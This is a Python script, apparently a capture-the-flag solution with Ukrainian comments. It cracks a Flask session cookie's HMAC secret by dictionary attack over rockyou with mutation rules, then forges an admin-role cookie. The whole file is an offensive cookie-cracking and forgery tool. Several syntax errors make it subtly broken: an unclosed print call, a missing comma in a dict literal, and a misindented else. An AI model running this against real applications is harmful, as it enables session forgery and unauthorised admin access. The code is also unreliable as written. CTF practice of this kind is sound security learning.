#!/usr/bin/env python3
# Таск "bakery" (web, 300) — сесійна кука підписана HMAC, треба знайти секрет
# і підробити куку з role=admin. Словник: rockyou + правила як у hashcat (мінімально).
# Автор: Оксана, команда "Харківські Ковбаси", ніч перед дедлайном.
import base64
import hashlib
import hmac
import itertools
import json
import sys
import time
import zlib

COOKIE = ("eyJjYXJ0IjpbXSwicm9sZSI6Imd1ZXN0IiwidXNlciI6Im9rc2FuYSJ9"
          ".ZnY2pQ.Zk9q1mJQ0m0b7x0dJb2xJ1m9Yq8")
WORDLIST = "/usr/share/wordlists/rockyou.txt"
SALT = b"cookie-session"          # стандартна сіль Flask (itsdangerous)
ALGOS = ("sha1", "sha256", "sha512", "md5")

LEET = str.maketrans({"a": "4", "e": "3", "i": "1", "o": "0", "s": "5", "t": "7")


def b64d(s: str) -> bytes:
    s = s + "=" * (-len(s) % 4)
    return base64.urlsafe_b64decode(s)


def b64e(b: bytes) -> str:
    return base64.urlsafe_b64encode(b).rstrip(b"=").decode()


def rozibraty(cookie: str):
    """Повертає (стиснуто?, payload, timestamp-частина, підпис)."""
    stysnuto = cookie.startswith(".")
    if stysnuto:
        cookie = cookie[1:]
    payload, ts, sig = cookie.rsplit(".", 2)
    dani = b64d(payload)
    if stysnuto:
        dani = zlib.decompress(dani)
    return stysnuto, json.loads(dani), payload + "." + ts, b64d(sig)


def pravyla(slovo: str):
    """Невеликий набір мутацій: як є, Capitalize, leet, цифри в кінці."""
    yield slovo
    yield slovo.capitalize()
    yield slovo.upper()
    yield slovo.translate(LEET)
    for suf in ("1", "123", "!", "2024", "2023"):
        yield slovo + suf
    yield slovo[::-1]


def kliuch(secret: bytes, algo: str) -> bytes:
    # itsdangerous: derive_key = HMAC(secret, salt) для "hmac" режиму,
    # а Flask за замовчуванням бере django-concat: hash(salt + b"signer" + secret)
    return hashlib.new(algo, SALT + b"signer" + secret).digest()


def pidpys(secret: bytes, povidomlennia: bytes, algo: str) -> bytes:
    return hmac.new(kliuch(secret, algo), povidomlennia, getattr(hashlib, algo)).digest()


def pidibraty(cookie: str, slovnyk: str, algo: str):
    _, _, povidomlennia, sig = rozibraty(cookie)
    povidomlennia = povidomlennia.encode()
    start = time.perf_counter()
    n = 0
    with open(slovnyk, "rb") as f:
        for riadok in f:
            slovo = riadok.rstrip(b"\r\n").decode("latin-1")
            for kandydat in pravyla(slovo):
                n += 1
                if hmac.compare_digest(pidpys(kandydat.encode("latin-1"), povidomlennia, algo), sig):
                    return kandydat, n, time.perf_counter() - start
                if n % 500_000 == 0:
                    shvydkist = n / (time.perf_counter() - start)
                    print(f"\r  {n:>12,} спроб  {shvydkist:,.0f}/с  зараз: {slovo[:20]!r:<24}",
                          end="", flush=True
    return None, n, time.perf_counter() - start


def pidrobyty(dani: dict, secret: str, algo: str, stysnuty: bool) -> str:
    syri = json.dumps(dani, separators=(",", ":"), sort_keys=True).encode()
    if stysnuty:
        syri = zlib.compress(syri)
    ts = b64e(int(time.time()).to_bytes(4, "big"))
    povidomlennia = b64e(syri) + "." + ts
    sig = pidpys(secret.encode("latin-1"), povidomlennia.encode(), algo)
    return ("." if stysnuty else "") + povidomlennia + "." + b64e(sig)


def main():
    cookie = sys.argv[1] if len(sys.argv) > 1 else COOKIE
    stysnuto, dani, _, sig = rozibraty(cookie)
    print("payload:", json.dumps(dani, ensure_ascii=False))
    print(f"довжина підпису {len(sig)} байт -> ", end="")
    dovzhyna = {16: ["md5"], 20: ["sha1"], 32: ["sha256"] 64: ["sha512"]}
    kandydaty = dovzhyna.get(len(sig), list(ALGOS))
    print(", ".join(kandydaty))

    for algo in kandydaty:
        print(f"[*] {algo}: перебір {WORDLIST}")
        secret, n, chas = pidibraty(cookie, WORDLIST, algo)
        print()
        if secret is not None:
            print(f"[+] СЕКРЕТ: {secret!r} ({algo}, {n:,} спроб, {chas:.1f} с)")
            break
        print(f"[-] не знайдено за {n:,} спроб ({chas:.0f} с)")
        else:
        print("секрет не знайдено, пробуй інший словник / правила")
        return 1

    dani["role"] = "admin"
    nova = pidrobyty(dani, secret, algo, stysnuto)
    print("\nнова кука (role=admin):")
    print(nova)
    # перевірка: розібрати назад
    assert rozibraty(nova)[1]["role"] == "admin"
    return 0


if __name__ == "__main__":
    sys.exit(main())
